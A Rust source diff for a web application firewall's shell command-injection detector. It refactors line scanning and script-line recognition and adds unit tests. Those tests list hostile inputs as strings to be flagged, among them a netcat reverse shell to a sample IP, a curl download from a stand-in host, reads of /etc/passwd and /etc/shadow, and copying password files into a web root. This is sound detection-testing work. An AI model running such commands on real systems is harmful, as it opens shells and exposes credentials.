@@ -11,14 +11,16 @@ mod word;
 
 use self::commands::{Class, class, is_filter, is_harmless, is_keyword};
 use self::word::{Argument, Word, argument, word};
+use super::fragment::strongest_of_lines;
 use super::{Finding, Strength};
+use crate::pattern::ByteSet;
 
 pub(in crate::waf) use self::word::Dialect;
 
-/// Shorter lines hold no command and what ends another.
-const MIN_LINE_BYTES: usize = 3;
 /// Places of a value that are tried as the beginning of a command.
 const MAX_PLACES: usize = 1 << 14;
+/// What every separator begins with.
+const MARKS: ByteSet = ByteSet::of(b"&|;\n\r$<>`");
 /// Bytes before a place that say whether it stands in a text.
 const TEXT_BYTES: usize = 128;
 
@@ -45,28 +47,14 @@ enum Separator {
 
 /// How sure it is that a value is a command injection.
 pub(in crate::waf) fn shell(value: &[u8], dialect: Dialect) -> Option<Finding> {
-    let whole = commands_in(value, dialect).map(|found| found.within(value));
-    let lines = value.split(|byte| matches!(byte, b'\n' | b'\r'));
-    let mut from = 0;
-    lines
-        .map(|line| {
-            let found = match line.len() {
-                0..MIN_LINE_BYTES => None,
-                length if length == value.len() => whole,
-                _ => commands_in(line, dialect),
-            };
-            let at = from;
-            from += line.len() + 1;
-            found.map(|found| Finding { from: at + found.from, ..found })
-        })
-        .fold(whole, Option::max)
+    strongest_of_lines(value, |_, line| commands_in(line, dialect))
 }
 
 fn commands_in(value: &[u8], dialect: Dialect) -> Option<Finding> {
     let start = judge(value, Separator::Start, dialect);
     let mut found = Finding::at(start, 0);
     let mut from = 0;
-    let mut list = List::default();
+    let mut is_script_line = false;
     // A row of a table.
     let is_row = value.trim_ascii().starts_with(b"|") && value.trim_ascii().ends_with(b"|");
     for nth in 0..=MAX_PLACES {
@@ -77,8 +65,8 @@ fn commands_in(value: &[u8], dialect: Dialect) -> Option<Finding> {
         }
         let Some((separator, command)) = next_command(value, from, dialect) else { break };
         let judged = judge(value.get(command..)?, separator, dialect);
-        list.read(value, from, command, dialect);
-        let judged = if (list.is_script || is_row) && goes_on_harmlessly(value.get(command..)?, dialect) {
+        is_script_line |= value.get(from..command).is_some_and(|text| begins_script(text, dialect));
+        let judged = if (is_script_line || is_row) && goes_on_harmlessly(value.get(command..)?, dialect) {
             judged.min(Some(Strength::Possible))
         } else {
             judged
@@ -98,55 +86,38 @@ fn commands_in(value: &[u8], dialect: Dialect) -> Option<Finding> {
     Some(if is_script { Finding { strength: Strength::Possible, ..found } } else { found })
 }
 
-/// Whether the commands before a place stand by themselves, so that what follows leaves no other context: a line of
-/// a script, a command in a text.
-#[derive(Debug, Default)]
-struct List {
-    is_script: bool,
-}
-
-impl List {
-    /// Reads what stands between two separators.
-    fn read(&mut self, value: &[u8], from: usize, to: usize, dialect: Dialect) {
-        self.is_script |= value.get(from..to).is_some_and(|text| begins_script(text, dialect));
-    }
-}
-
-/// Whether a text begins with a command of its own, behind a prompt, a bullet or a quote at the most.
+/// Whether a text, or what is quoted last in it, begins with a command of its own: then what follows it goes on with a
+/// script, and leaves no other context.
 fn begins_script(text: &[u8], dialect: Dialect) -> bool {
+    let last = text.len().saturating_sub(1);
+    let quote = text.get(..last).and_then(|text| memchr::memrchr3(b'`', b'\'', b'"', text));
+    begins_with_call(text, dialect)
+        || quote.and_then(|at| text.get(at..)).is_some_and(|quoted| begins_with_call(quoted, dialect))
+}
+
+/// Whether a text begins with a program and an argument, or what assigns a result, behind a prompt, a bullet or a quote
+/// at the most.
+fn begins_with_call(text: &[u8], dialect: Dialect) -> bool {
     let is_lead = |byte: &u8| byte.is_ascii_whitespace() || b"$>#-*`'\"(@+|:".contains(byte);
-    let starts = [
-        Some(0),
-        memchr::memrchr3(b'`', b'\'', b'"', text.get(..text.len().saturating_sub(1)).unwrap_or_default()),
-    ];
-    starts.into_iter().flatten().any(|start| {
-        let text = text.get(start..).unwrap_or_default();
-        let text = text.get(text.iter().take_while(|byte| is_lead(byte)).count()..).unwrap_or_default();
-        let text = text.strip_prefix(b"RUN ").unwrap_or(text);
-        let name = text
-            .iter()
-            .take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.'))
-            .count();
-        let (name, rest) = text.split_at(name);
-        match rest {
-            [b'=', ..] => !name.is_empty(),
-            [b' ', next, ..] => {
-                *next > b' '
-                    && !matches!(next, b';' | b'|' | b'&')
-                    && (is_keyword(name)
-                        || word(text, dialect).is_some_and(|(word, _)| class(word.name(), dialect).is_some()))
-            }
-            _ => false,
+    let text = text.get(text.iter().take_while(|byte| is_lead(byte)).count()..).unwrap_or_default();
+    let text = text.strip_prefix(b"RUN ").unwrap_or(text);
+    let is_name = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.');
+    let (name, rest) = text.split_at(text.iter().take_while(|byte| is_name(byte)).count());
+    match rest {
+        [b'=', b'$' | b'`', ..] => !name.is_empty(),
+        [b' ', next, ..] if *next > b' ' && !matches!(next, b';' | b'|' | b'&') => {
+            is_keyword(name)
+                || word(text, dialect).is_some_and(|(word, _)| class(word.name(), dialect).is_some())
         }
-    })
+        _ => false,
+    }
 }
 
 /// Whether a command only does what scripts of any kind do: it filters, moves files of its own, builds.
 fn goes_on_harmlessly(command: &[u8], dialect: Dialect) -> bool {
     word(command, dialect).is_some_and(|(word, rest)| {
-        let reads = is_filter(word.name()) && argument(rest, dialect).has_path;
         let is_hidden = word.is_disguised || word.has_separator_expansion || word.is_in_bin();
-        !reads && !is_hidden && is_harmless(word.name())
+        !is_hidden && is_harmless(word.name(), &argument(rest, dialect))
     })
 }
 
@@ -162,6 +133,7 @@ fn begins_with_separator(value: &[u8], command: usize) -> bool {
 fn next_command(value: &[u8], from: usize, dialect: Dialect) -> Option<(Separator, usize)> {
     let mut at = from;
     loop {
+        at += value.get(at..)?.iter().position(|byte| MARKS.has(*byte))?;
         let byte = *value.get(at)?;
         let next = value.get(at + 1).copied();
         let is_unix = dialect == Dialect::Unix;
@@ -247,13 +219,17 @@ fn named(word: &Word, argument: &Argument, separator: Separator, dialect: Dialec
         (Separator::Start, Class::Program) if !is_called => Some(Possible),
         (Separator::Start, _) => is_called.then_some(Likely),
         // Markdown writes names and commands so, too.
-        (Separator::Backquote { .. }, _) if is_harmless(word.name()) && argument.is_plain() => Some(Possible),
+        (Separator::Backquote { .. }, _) if is_harmless(word.name(), argument) && argument.is_plain() => {
+            Some(Possible)
+        }
         (Separator::Backquote { .. }, Class::Noun) => Some(Likely),
         (Separator::Backquote { .. }, Class::Everyday { runs_alone: false }) if argument.is_end => {
             Some(Likely)
         }
         (Separator::Backquote { is_in_text: true }, _) => Some(Likely),
-        (Separator::Substitution { is_in_text: true }, _) if is_harmless(word.name()) => Some(Possible),
+        (Separator::Substitution { is_in_text: true }, _) if is_harmless(word.name(), argument) => {
+            Some(Possible)
+        }
         (Separator::Substitution { .. } | Separator::Backquote { .. }, _) if is_called || argument.is_end => {
             Some(Certain)
         }
@@ -359,12 +335,42 @@ mod tests {
             "user-agent; charset=utf-8",
             "first\nsecond",
             "text/html; q=0.9",
+            "npm ci && npm test && npm run build",
+            "cat app.log | grep ERROR | sort | uniq -c",
+            "$ cd srv && tar czf backup.tar.gz data",
+            "RUN apt-get update && apt-get install -y curl",
+            "Use `git status`; then `git pull`.",
             "cat pictures",
             "find & replace",
             "date; time; host",
             "key=value; path=/",
         ] {
             assert!(strength(value.as_bytes(), Dialect::Unix) < Some(Strength::Likely), "{value}");
+        }
+    }
+
+    #[test]
+    fn scripts_go_on_with_themselves() {
+        for value in ["rm -rf dist && mkdir dist", "ls -la | sort", "curl -O x.tgz; tar xf x.tgz"] {
+            assert_eq!(strength(value.as_bytes(), Dialect::Unix), Some(Strength::Likely), "{value}");
+        }
+    }
+
+    #[test]
+    fn commands_before_it_make_no_attack_harmless() {
+        for value in [
+            "git x; cat /etc/passwd",
+            "a=b; ls -la",
+            "npm i; bash -c id",
+            "cd /tmp; curl http://e.example/x -o y",
+            "make x && nc -e /bin/sh 192.0.2.1 1",
+            "echo a; cp /etc/passwd /var/www/html/x",
+            "git x; whoami",
+            "tar x; python3 -c 'import os'",
+            "git log | xargs cat /etc/shadow",
+            "npm test; php /tmp/x.php",
+        ] {
+            assert_eq!(strength(value.as_bytes(), Dialect::Unix), Some(Strength::Certain), "{value}");
         }
     }
 
